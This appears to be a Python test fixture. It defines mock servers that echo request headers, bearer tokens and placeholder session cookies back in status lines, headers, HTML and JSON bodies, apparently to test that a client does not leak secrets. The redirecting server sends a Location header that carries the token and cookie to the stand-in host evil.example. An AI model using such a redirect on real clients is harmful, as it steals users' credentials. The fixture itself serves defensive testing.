"""Servers that give back all that they were sent: in status line, headers, cookies, redirects and bodies."""

import base64
import json
import time
import urllib.parse

from tls_server import Server, response

COOKIE = "c00kie-of-the-session.7Yq2LmNoPq3RsTuVw4XyZaBcDeFgHi"
CSRF = "csrf-t0ken-of-the-session.9KlMnBvCxZaSdFgHjKlPoIuYtReWq"


def echo(headers):
    """What a careless server knows of a request, in some of the ways in which it could write it."""
    sent = " ".join(f"{name}={value}" for name, value in headers.items())
    raw = f"{sent} {COOKIE} {CSRF}"
    return raw, base64.b64encode(raw.encode()).decode(), urllib.parse.quote(raw, safe="")


def cookies():
    return [("Set-Cookie", f"eas.sid={COOKIE}; Path=/; Secure; HttpOnly"), ("Set-Cookie", f"X-Qlik-Session={COOKIE}; Path=/"),
            ("Set-Cookie", f"_csrfToken={CSRF}; Path=/")]


def body(headers):
    raw, encoded, percent = echo(headers)
    return json.dumps({
        "errors": [{"code": raw, "title": encoded, "detail": percent, "meta": {"token": headers.get("authorization")}}],
        "error": raw, "message": raw, "traceId": encoded, "id": raw, "name": encoded, "email": raw.encode().hex(), "subject": raw,
        "userId": raw, "userDirectory": encoded, "csrfToken": CSRF, "data": [{"id": raw, "issuer": raw, "keyid": encoded}],
    }).encode()


def accepting(method, target, headers, _):
    """Lets everybody in, and writes what it was sent into everything that it says."""
    raw, encoded, percent = echo(headers)
    heads = [*cookies(), ("Content-Type", "application/json"), ("X-Echo", raw), ("X-Encoded", encoded),
             ("qlik-csrf-token", CSRF), ("Server", percent)]
    return response("200 OK", heads, body(headers))


def refusing(method, target, headers, _):
    raw, encoded, _ = echo(headers)
    heads = [*cookies(), ("Content-Type", "application/json"), ("WWW-Authenticate", f'Bearer error="{raw}"'), ("X-Echo", encoded)]
    return response(f"401 {raw}", heads, body(headers))


def page(method, target, headers, _):
    raw, encoded, percent = echo(headers)
    text = f"<html><title>{raw}</title><body><h1>{encoded}</h1><a href='/?{percent}'>{raw}</a></body></html>"
    return response(f"403 {encoded}", [*cookies(), ("Content-Type", "text/html")], text.encode())


def redirecting(method, target, headers, _):
    raw, _, percent = echo(headers)
    token = headers.get("authorization", "").removeprefix("Bearer ")
    heads = [*cookies(), ("Location", f"https://evil.example/{token}?t={percent}&s={COOKIE}#{token}")]
    return response(f"302 {raw}", heads, body(headers))


def stalling(method, target, headers, _):
    time.sleep(60)
    return b""


KINDS = {"accepting": accepting, "refusing": refusing, "page": page, "redirecting": redirecting, "stalling": stalling}


def start(key, certificate):
    return {kind: Server(key, certificate, answer) for kind, answer in KINDS.items()}
